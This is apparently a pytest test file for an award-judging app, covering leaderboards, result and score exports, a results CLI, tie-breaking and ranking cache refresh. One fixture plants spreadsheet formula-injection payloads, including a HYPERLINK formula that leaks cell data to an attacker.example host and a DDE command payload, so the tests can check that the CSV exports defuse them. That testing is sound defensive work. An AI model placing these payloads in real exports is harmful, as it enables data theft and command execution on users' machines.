"""From stored scores to results: the leaderboard, exports, the results CLI and demo data."""

import csv
import html
import io
import json
import re

import pytest
from sqlalchemy import event, func, insert, select

from judging.extensions import db
from judging.models import (
    AuditEvent,
    CastingDecision,
    Criterion,
    Evaluation,
    JuryMember,
    Nominee,
    Score,
    User,
    utcnow,
)
from judging.services import demo, recusals, results

from .fixtures.domain import csrf_token

pytestmark = pytest.mark.every_engine  # about what the database does: SQLite and PostgreSQL

ALL = {"innovation": 8, "impact": 8, "person-centred": 8, "sustainability": 8, "transferability": 8}


def enter_scores(make_user, make_evaluation, award, table: dict[str, dict[str, int]]):
    """{juror name: {nominee slug: same score on every criterion}}, all submitted."""
    nominees = {n.slug: n for n in award.nominees}
    jurors = {}
    for name, row in table.items():
        jurors[name] = make_user(name=name, awards=[award])
        for slug, value in row.items():
            make_evaluation(nominees[slug], jurors[name], dict.fromkeys(ALL, value), submitted=True)
    return jurors


def test_the_leaderboard_ranks_submitted_evaluations_only(
    app, logged_in, seeded_award, make_user, make_evaluation
):
    enter_scores(
        make_user,
        make_evaluation,
        seeded_award,
        {"Ann": {"evikomp": 10, "omapu": 4}, "Ben": {"evikomp": 9, "omapu": 6}},
    )
    draft_juror = make_user(awards=[seeded_award])
    make_evaluation(
        next(n for n in seeded_award.nominees if n.slug == "omapu"),
        draft_juror,
        dict.fromkeys(ALL, 10),
    )  # a draft: must not count
    client, _ = logged_in(role="admin")
    page = client.get("/admin/awards/excellence-award/leaderboard").get_data(as_text=True)
    assert "Provisional" in page
    assert page.index("EVIKOMP") < page.index("Office to Support Ukrainian People")
    assert "94.44" in page  # EVIKOMP: mean of 100 and 88.89
    assert page.count('class="dot"') == 4  # the chart: one dot per juror total


def test_switching_the_method(app, logged_in, seeded_award, make_user, make_evaluation):
    enter_scores(make_user, make_evaluation, seeded_award, {"Ann": {"evikomp": 10, "omapu": 4}})
    client, _ = logged_in(role="admin")
    page = client.get("/admin/awards/excellence-award/leaderboard?method=borda").get_data(
        as_text=True
    )
    assert "Ranking: Borda count" in page
    assert '<option value="borda" selected>' in page
    unknown = client.get("/admin/awards/excellence-award/leaderboard?method=vibes")
    assert "Ranking: Mean" in unknown.get_data(as_text=True)


def test_results_json_has_the_documented_shape(
    app, runner, seeded_award, make_user, make_evaluation
):
    enter_scores(
        make_user,
        make_evaluation,
        seeded_award,
        {
            "Ann": {"evikomp": 10, "omapu": 4, "konekta2": 7},
            "Ben": {"evikomp": 9, "omapu": 6, "konekta2": 7},
        },
    )
    result = runner.invoke(args=["results", "excellence-award", "--format", "json"])
    assert result.exit_code == 0, result.output
    document = json.loads(result.output)
    assert document["method"] == "mean"
    first = document["nominees"][0]
    assert {"rank", "slug", "title", "score", "tied"} <= set(first)
    assert (first["rank"], first["slug"], first["score"], first["tied"]) == (
        1,
        "evikomp",
        94.44,
        False,
    )
    assert document["nominees"][2]["slug"] == "omapu"
    assert document["nominees"][3]["score"] is None  # nobody evaluated it yet
    assert "kendalls_w" in document["statistics"]
    assert isinstance(document["flags"], list)


def test_results_table_and_csv(app, runner, seeded_award, make_user, make_evaluation):
    enter_scores(make_user, make_evaluation, seeded_award, {"Ann": {"evikomp": 10, "omapu": 4}})
    table = runner.invoke(args=["results", "excellence-award"]).output
    assert "method: Mean" in table and "EVIKOMP" in table
    rows = list(
        csv.DictReader(
            io.StringIO(
                runner.invoke(
                    args=["results", "excellence-award", "--format", "csv", "--method", "median"]
                ).output
            )
        )
    )
    assert rows[0]["slug"] == "evikomp" and rows[0]["rank"] == "1"
    assert len(rows) == 13


def test_results_of_an_unknown_award(app, runner):
    result = runner.invoke(args=["results", "nope"])
    assert result.exit_code == 1 and "No award with slug nope" in result.output


def test_exports_from_the_admin_pages(app, logged_in, seeded_award, make_user, make_evaluation):
    jurors = enter_scores(make_user, make_evaluation, seeded_award, {"Ann": {"evikomp": 10}})
    evaluation = db.session.scalar(select(Evaluation))
    evaluation.comment = "Remarkable reach across 15 municipalities."
    db.session.commit()
    client, _ = logged_in(role="admin")
    as_json = client.get("/admin/awards/excellence-award/results.json")
    assert as_json.headers["Content-Disposition"].endswith('results-mean.json"')
    assert as_json.json["nominees"][0]["slug"] == "evikomp"
    scores_csv = (
        client.get("/admin/awards/excellence-award/scores.csv").get_data().decode("utf-8-sig")
    )
    rows = list(csv.DictReader(io.StringIO(scores_csv)))
    assert len(rows) == 5  # one per criterion
    assert rows[0]["juror"] == jurors["Ann"].name
    assert rows[0]["comment"] == "Remarkable reach across 15 municipalities."
    assert rows[0]["submitted"] == "True" and rows[0]["recused"] == "False"
    scores_json = client.get("/admin/awards/excellence-award/scores.json").json
    assert {r["criterion"] for r in scores_json} == set(ALL)


def test_a_tie_can_be_resolved_by_a_recorded_casting_decision(
    app, logged_in, seeded_award, make_user, make_evaluation
):
    enter_scores(make_user, make_evaluation, seeded_award, {"Ann": {"evikomp": 9, "omapu": 9}})
    client, admin = logged_in(role="admin")
    page = client.get("/admin/awards/excellence-award/leaderboard").get_data(as_text=True)
    assert "Ties the rules cannot break" in page
    token = csrf_token(client, "/admin/awards/excellence-award/leaderboard")
    data = {
        "csrf_token": token,
        "method": "mean",
        "prefix": "tie-0-",
        "tied": ["evikomp", "omapu"],
        "tie-0-order": ["omapu", "evikomp"],
        "tie-0-reason": "OMAPU served more families this year.",
    }
    refused = client.post(
        "/admin/awards/excellence-award/casting", data={**data, "tie-0-reason": ""}
    )
    assert refused.status_code == 302
    assert db.session.scalar(select(func.count()).select_from(CastingDecision)) == 0
    client.post("/admin/awards/excellence-award/casting", data=data)
    decision = db.session.scalar(select(CastingDecision))
    assert json.loads(decision.nominee_order) == ["omapu", "evikomp"]
    assert decision.decided_by_id == admin.id
    result = results.compute(seeded_award).result
    assert [r.nominee for r in result.results[:2]] == ["omapu", "evikomp"]
    assert not result.results[0].tied
    assert db.session.scalar(
        select(AuditEvent).where(AuditEvent.action == "ranking.casting_decision")
    )


def test_a_casting_decision_must_order_exactly_the_tied_nominees(
    app, logged_in, seeded_award, make_user, make_evaluation
):
    enter_scores(make_user, make_evaluation, seeded_award, {"Ann": {"evikomp": 9, "omapu": 9}})
    client, _ = logged_in(role="admin")
    token = csrf_token(client, "/admin/awards/excellence-award/leaderboard")
    client.post(
        "/admin/awards/excellence-award/casting",
        data={
            "csrf_token": token,
            "method": "mean",
            "prefix": "tie-0-",
            "tied": ["evikomp", "omapu"],
            "tie-0-order": ["omapu", "omapu"],
            "tie-0-reason": "x",
        },
    )
    assert db.session.scalar(select(func.count()).select_from(CastingDecision)) == 0


@pytest.fixture
def count_queries(app):
    counter = {"n": 0}

    def count(*_args):
        counter["n"] += 1

    event.listen(db.engine, "before_cursor_execute", count)
    yield counter
    event.remove(db.engine, "before_cursor_execute", count)


def test_the_ranking_reads_scores_in_a_bounded_number_of_queries(
    app, seeded_award, make_user, make_evaluation, count_queries
):
    def queries_for(jurors: int) -> int:
        for i in range(jurors):
            juror = make_user(awards=[seeded_award])
            for nominee in seeded_award.nominees[: 4 + i]:
                make_evaluation(nominee, juror, dict.fromkeys(ALL, 5 + i % 5), submitted=True)
        db.session.expire_all()
        award = db.session.get(type(seeded_award), seeded_award.id)
        count_queries["n"] = 0
        results.as_json(award, results.compute(award), results.juror_labels(award))
        return count_queries["n"]

    small = queries_for(1)
    large = queries_for(6)
    assert small == large <= 7


def test_demo_data_fills_an_empty_award_and_comes_off_again(app, runner, seeded_award):
    added = runner.invoke(args=["demo", "excellence-award"])
    assert added.exit_code == 0, added.output
    assert "added 155 demo evaluations by 12 demo jurors" in added.output
    result = results.compute(seeded_award).result
    assert result.winner is not None
    assert any(f.kind == "outlier_juror" for f in result.flags)  # the harsh and lenient ones
    names = db.session.scalars(select(User.name)).all()
    assert len(names) == 12 and all(n.startswith("Demo juror") for n in names)

    removed = runner.invoke(args=["demo", "excellence-award", "--remove"])
    assert "removed 155 demo evaluations" in removed.output
    assert db.session.scalar(select(func.count()).select_from(Evaluation)) == 0
    assert db.session.scalar(select(func.count()).select_from(User)) == 0


def test_demo_data_is_refused_on_real_evaluations_or_published_results(
    app, runner, seeded_award, make_user, make_evaluation
):
    make_evaluation(seeded_award.nominees[0], make_user(awards=[seeded_award]), {"impact": 5})
    refused = runner.invoke(args=["demo", "excellence-award"])
    assert refused.exit_code == 1 and "real evaluations" in refused.output
    assert db.session.scalar(select(func.count()).select_from(Evaluation)) == 1

    seeded_award.status = "published"
    db.session.commit()
    with pytest.raises(demo.DemoError, match="published"):
        demo.add_demo_data(seeded_award)


# --- The leaderboard's words and layout (issue 15, item 13) -------------------------------------


def test_a_tie_broken_on_median_says_who_is_ahead_and_who_is_behind(
    app, logged_in, seeded_award, make_user, make_evaluation
):
    # Equal means (4 points above the scale's bottom on average), different medians.
    enter_scores(
        make_user,
        make_evaluation,
        seeded_award,
        {"Ann": {"evikomp": 2, "omapu": 4}, "Ben": {"evikomp": 5, "omapu": 4}},
    )
    enter_scores(make_user, make_evaluation, seeded_award, {"Cem": {"evikomp": 8, "omapu": 7}})
    client, _ = logged_in(role="admin")
    page = client.get("/admin/awards/excellence-award/leaderboard").get_data(as_text=True)
    rows = page[page.index('id="ranking-heading"') :]
    evikomp = rows[rows.index("EVIKOMP") : rows.index("</tr>", rows.index("EVIKOMP"))]
    omapu = rows[rows.index("OMAPU") : rows.index("</tr>", rows.index("OMAPU"))]
    assert "ahead on median" in evikomp
    assert "behind on median" in omapu and "ahead" not in omapu


def test_kendalls_w_counts_one_juror_in_the_singular(
    app, logged_in, seeded_award, make_user, make_evaluation
):
    every = {n.slug: 1 + i % 10 for i, n in enumerate(seeded_award.nominees)}
    enter_scores(make_user, make_evaluation, seeded_award, {"Ann": every})
    client, _ = logged_in(role="admin")
    page = client.get("/admin/awards/excellence-award/leaderboard").get_data(as_text=True)
    assert "Kendall's W, 1 juror who evaluated every nominee" in page
    assert "1 jurors" not in page


def test_an_award_without_scores_says_so_instead_of_a_thirteen_way_tie(
    app, logged_in, seeded_award
):
    client, _ = logged_in(role="admin")
    page = client.get("/admin/awards/excellence-award/leaderboard").get_data(as_text=True)
    assert "No scores yet" in page
    assert 'chip-draft">tie' not in page and ">tie</span>" not in page
    assert "Is the winner robust?" not in page


def test_the_ranking_tables_are_labelled_regions_a_keyboard_can_scroll(
    app, logged_in, seeded_award, make_user, make_evaluation
):
    enter_scores(make_user, make_evaluation, seeded_award, {"Ann": {"evikomp": 9, "omapu": 5}})
    client, _ = logged_in(role="admin")
    page = client.get("/admin/awards/excellence-award/leaderboard").get_data(as_text=True)
    scrollers = re.findall(r'<div class="table-scroll"[^>]*>', page)
    assert scrollers
    for div in scrollers:
        assert 'tabindex="0"' in div and 'role="region"' in div and "aria-label" in div
    start = page.index('class="table leaderboard"')
    ranking_head = page[start : page.index("</thead>", start)]
    assert ranking_head.count("<th ") == 10  # rank, nominee, score, 5 criteria, n, spread
    assert "The jury's scores under every method" in page


FORMULAS = {
    "title": '=HYPERLINK("http://attacker.example/?leak="&A1,"Click")',
    "organisation": "+1+1",
    "city": "-2+3",
    "country": "@SUM(1+1)",
}


def _booby_trapped(award, make_user, make_evaluation):
    """A nominee imported with formulas in every field, scored by a juror whose comments are
    formulas too; the juror's name needs UTF-8."""
    nominee = next(n for n in award.nominees if n.slug == "evikomp")
    for field, value in FORMULAS.items():
        setattr(nominee, field, value)
    juror = make_user(name="Müller-Łęcka", awards=[award])
    evaluation = make_evaluation(
        nominee, juror, dict.fromkeys(ALL, 9), submitted=True, comment="=cmd|' /C calc'!A0"
    )
    evaluation.scores[0].comment = "\t=1+1"
    evaluation.scores[1].comment = "\r=1+1"
    db.session.commit()


def test_downloaded_csv_exports_defuse_formulas_and_open_in_excel(
    app, logged_in, seeded_award, make_user, make_evaluation
):
    _booby_trapped(seeded_award, make_user, make_evaluation)
    client, _ = logged_in(role="admin")

    raw = client.get("/admin/awards/excellence-award/results.csv").get_data()
    assert raw.startswith(b"\xef\xbb\xbf")  # Excel reads it as UTF-8
    results_rows = list(csv.DictReader(io.StringIO(raw.decode("utf-8-sig"))))
    first = results_rows[0]
    assert first["slug"] == "evikomp" and first["rank"] == "1"
    for field, value in FORMULAS.items():
        assert first[field] == "'" + value  # shown as text, never run
    assert first["score"] == "88.89"  # numbers stay numbers

    raw = client.get("/admin/awards/excellence-award/scores.csv").get_data()
    assert raw.startswith(b"\xef\xbb\xbf")
    rows = list(csv.DictReader(io.StringIO(raw.decode("utf-8-sig"))))
    assert rows[0]["juror"] == "Müller-Łęcka"
    assert {row["comment"] for row in rows} == {"'=cmd|' /C calc'!A0"}
    assert rows[0]["criterion_comment"] == "'\t=1+1"
    assert rows[1]["criterion_comment"] == "'\r=1+1"
    assert rows[0]["score"] == "9"
    # Every cell: none starts like a formula.
    cells = [cell for row in csv.reader(io.StringIO(raw.decode("utf-8-sig"))) for cell in row]
    cells += [cell for row in results_rows for cell in row.values() if cell is not None]
    assert not [c for c in cells if c[:1] in ("=", "+", "@", "\t", "\r")]


def test_the_results_cli_csv_defuses_formulas_without_a_bom(
    app, runner, seeded_award, make_user, make_evaluation
):
    _booby_trapped(seeded_award, make_user, make_evaluation)
    result = runner.invoke(args=["results", "excellence-award", "--format", "csv"])
    assert result.exit_code == 0, result.output
    assert not result.output.startswith("\ufeff")  # a pipe's reader gets plain UTF-8
    first = next(csv.DictReader(io.StringIO(result.output)))
    assert first["title"] == "'" + FORMULAS["title"]
    assert first["city"] == "'-2+3"


# --- The leaderboard of a large award: the top 100, the rest a click away ---------------------


def grow(award, nominees: int) -> None:
    """`nominees` more nominees in the award, each scored by one new juror (8 on every
    criterion but one point more on impact for each step up): distinct scores, no ties.
    Bulk inserts, so that an award of over 100 nominees takes a moment to build."""
    juror = User(email="many@example.org", name="Many", role="juror", active=True)
    db.session.add(juror)
    db.session.flush()
    db.session.add(JuryMember(award_id=award.id, user_id=juror.id))
    db.session.execute(
        insert(Nominee),
        [
            {
                "award_id": award.id,
                "slug": f"extra-{i:03}",
                "title": f"Extra nominee {i:03}",
                "organisation": "Org",
                "city": "City",
                "country": "Country",
                "position": 100 + i,
            }
            for i in range(nominees)
        ],
    )
    ids = db.session.scalars(
        select(Nominee.id).where(Nominee.slug.like("extra-%")).order_by(Nominee.position)
    ).all()
    db.session.execute(
        insert(Evaluation),
        [
            {"award_id": award.id, "nominee_id": n, "juror_id": juror.id, "submitted_at": utcnow()}
            for n in ids
        ],
    )
    evaluations = db.session.execute(
        select(Evaluation.id, Evaluation.nominee_id).where(Evaluation.juror_id == juror.id)
    ).all()
    place = {n: i for i, n in enumerate(ids)}
    criteria = {c.slug: c.id for c in award.criteria}
    db.session.execute(
        insert(Score),
        [
            {
                "evaluation_id": e,
                "criterion_id": criterion_id,
                "value": 1 + place[n] % 9 if slug == "impact" else 1 + place[n] // 9 % 9,
            }
            for e, n in evaluations
            for criterion_id, slug in [(criteria[s], s) for s in criteria]
        ],
    )
    db.session.commit()


def rows_of(page: str) -> int:
    """The rows of the jury ranking table."""
    table = page[page.index('<table class="table leaderboard">') :]
    return table[: table.index("</table>")].count('<td class="rank">')


def test_a_large_leaderboard_lists_the_top_100_and_links_to_the_rest(app, logged_in, seeded_award):
    grow(seeded_award, 230)  # 243 nominees, 230 of them scored
    client, _ = logged_in(role="admin")
    url = "/admin/awards/excellence-award/leaderboard"
    page = client.get(url + "?method=median").get_data(as_text=True)
    assert rows_of(page) == 100
    assert page.count('class="dot"') == 100  # the chart: the same top 100
    assert "Showing the top 100 of 243 nominees." in page
    more = re.search(r'href="([^"]+show=200[^"]*)"[^>]*>Show the next 100<', page).group(1)
    everything = re.search(r'href="([^"]+show=all[^"]*)"[^>]*>Show all 243<', page).group(1)
    assert "method=median" in html.unescape(more)  # the method chosen stays
    page = client.get(html.unescape(more)).get_data(as_text=True)
    assert rows_of(page) == 200
    assert "Showing the top 200 of 243 nominees." in page and "Show the next 43" in page
    page = client.get(html.unescape(everything)).get_data(as_text=True)
    assert "Showing the top" not in page
    assert rows_of(page) == 243  # the 13 unscored come last, unranked
    csv_rows = client.get("/admin/awards/excellence-award/results.csv").get_data(as_text=True)
    assert len(csv_rows.strip().splitlines()) == 1 + 243  # the export has them all


def test_a_small_leaderboard_lists_every_nominee_without_links(
    app, logged_in, seeded_award, make_user, make_evaluation
):
    enter_scores(make_user, make_evaluation, seeded_award, {"Ann": {"evikomp": 10, "omapu": 4}})
    client, _ = logged_in(role="admin")
    page = client.get("/admin/awards/excellence-award/leaderboard").get_data(as_text=True)
    assert rows_of(page) == 13
    assert "Showing the top" not in page and "show=all" not in page


# --- The ranking's cache: a fresh ranking after any change of what it is computed from --------


@pytest.fixture
def ranked(seeded_award, make_user, make_evaluation):
    """Ann and Ben score EVIKOMP above OMAPU; the ranking is computed once (and cached)."""
    jurors = enter_scores(
        make_user,
        make_evaluation,
        seeded_award,
        {"Ann": {"evikomp": 10, "omapu": 4}, "Ben": {"evikomp": 9, "omapu": 6}},
    )
    first = results.compute(seeded_award)
    again = results.compute(seeded_award)
    assert again.result is first.result  # from the cache
    return seeded_award, jurors, first.result


def score_of(award, slug: str) -> float:
    db.session.expire_all()
    award = db.session.get(type(award), award.id)
    return next(r.score for r in results.compute(award).result.results if r.nominee == slug)


def impact_score(juror, nominee: str) -> Score:
    return db.session.scalar(
        select(Score)
        .join(Evaluation)
        .join(Nominee, Nominee.id == Evaluation.nominee_id)
        .join(Criterion)
        .where(Evaluation.juror_id == juror.id, Nominee.slug == nominee, Criterion.slug == "impact")
    )


def test_the_cached_ranking_is_recomputed_after_a_score_changes(app, ranked):
    award, jurors, _ = ranked
    assert score_of(award, "evikomp") == pytest.approx(94.444, abs=0.01)
    # Changed in the table itself: no new version, no new updated_at.
    impact_score(jurors["Ann"], "evikomp").value = 1
    db.session.commit()
    assert score_of(award, "evikomp") < 90


def test_changes_that_cancel_out_in_a_sum_still_refresh_the_ranking(app, ranked):
    award, jurors, _ = ranked
    before = score_of(award, "evikomp")
    scores = db.session.scalars(
        select(Score)
        .join(Evaluation)
        .where(Evaluation.juror_id == jurors["Ben"].id)
        .where(
            Evaluation.nominee_id == db.session.scalar(select(Nominee.id).filter_by(slug="evikomp"))
        )
        .order_by(Score.criterion_id)
    ).all()
    # Three neighbouring criteria +1, -2, +1: the values' sum, and their sum weighted by the
    # criterion's id, are both unchanged; the weighted mean is not (the weights differ).
    for score, change in zip(scores[:3], (1, -2, 1), strict=True):
        score.value += change
    db.session.commit()
    weights = [c.weight for c in award.criteria][:3]
    assert weights[0] - 2 * weights[1] + weights[2] != 0  # the score does move
    assert score_of(award, "evikomp") != pytest.approx(before, abs=1e-9)


def test_the_cached_ranking_is_recomputed_after_a_recusal(app, ranked):
    award, jurors, _ = ranked
    evikomp = next(n for n in award.nominees if n.slug == "evikomp")
    award.status = "scoring"
    db.session.commit()
    recusals.declare_recusal(award, evikomp, juror=jurors["Ben"], reason="Advised them.")
    db.session.commit()
    assert score_of(award, "evikomp") == pytest.approx(100.0)  # Ann's alone


def test_the_cached_ranking_is_recomputed_after_a_criterion_weight_changes(app, ranked):
    award, jurors, _ = ranked
    impact_score(jurors["Ann"], "omapu").value = 10  # 4 on the others: the weights matter
    db.session.commit()
    before = score_of(award, "omapu")  # computed and cached
    impact = next(c for c in award.criteria if c.slug == "impact")
    impact.weight += 5  # weights lock once scored in the pages: changed in the table
    db.session.commit()
    assert score_of(award, "omapu") > before


def test_the_cached_ranking_is_recomputed_after_the_quorum_changes(app, ranked):
    award, _, first = ranked
    award.quorum = 5
    db.session.commit()
    db.session.expire_all()
    award = db.session.get(type(award), award.id)
    again = results.compute(award).result
    assert again is not first
    assert any(f.kind == "low_coverage" for f in again.flags)
